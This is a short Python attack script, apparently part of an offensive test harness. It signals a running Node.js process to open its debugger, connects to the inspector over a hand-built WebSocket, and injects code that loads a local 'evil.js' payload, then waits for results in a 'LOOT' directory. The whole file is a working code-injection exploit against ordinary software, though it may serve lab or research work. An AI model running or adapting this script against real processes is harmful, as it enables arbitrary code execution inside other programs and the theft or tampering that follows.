"""Makes a Node process open its debugger by a signal, and runs code in it: ``debugger_signal.py PID``."""

import base64
import json
import os
import signal
import socket
import sys
import time
import urllib.request
from pathlib import Path

import attacker

PORT = 9229  # nodejs.org/api/cli.html, --inspect
PATIENCE_S = 10


def main(pid: int) -> None:
    os.kill(pid, signal.SIGUSR1)
    target = debugger_url()
    if not target:
        attacker.note("no debugger came")
        return
    evil = Path(__file__).with_name("evil.js")
    code = f'process.getBuiltinModule("module").createRequire("/")("{evil}"); 1'
    message = {"id": 1, "method": "Runtime.evaluate", "params": {"expression": code}}
    answer = speak(target, json.dumps(message).encode())
    attacker.note(f"the debugger says: {answer!r}")
    end_s = time.monotonic() + PATIENCE_S
    log = Path(attacker.SET["LOOT"]) / "log"
    while "done" not in log.read_text() and time.monotonic() < end_s:
        time.sleep(0.05)


def debugger_url() -> str:
    end_s = time.monotonic() + PATIENCE_S
    while time.monotonic() < end_s:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{PORT}/json/list", timeout=2) as answer:
                return json.load(answer)[0]["webSocketDebuggerUrl"]
        except OSError:
            time.sleep(0.05)
    return ""


def speak(url: str, text: bytes) -> bytes:
    """Send one WebSocket message (RFC 6455); return what comes."""
    path = url.partition(f":{PORT}")[2]
    with socket.create_connection(("127.0.0.1", PORT), timeout=PATIENCE_S) as connection:
        key = base64.b64encode(os.urandom(16)).decode()
        head = (f"GET {path} HTTP/1.1", f"Host: 127.0.0.1:{PORT}", "Upgrade: websocket", "Connection: Upgrade")
        more = (f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", "", "")
        connection.sendall("\r\n".join(head + more).encode())
        connection.recv(4096)
        mask = os.urandom(4)
        masked = bytes(byte ^ mask[number % 4] for number, byte in enumerate(text))
        connection.sendall(b"\x81" + bytes([0x80 | 126]) + len(text).to_bytes(2, "big") + mask + masked)
        return connection.recv(4096)


main(int(sys.argv[1]))
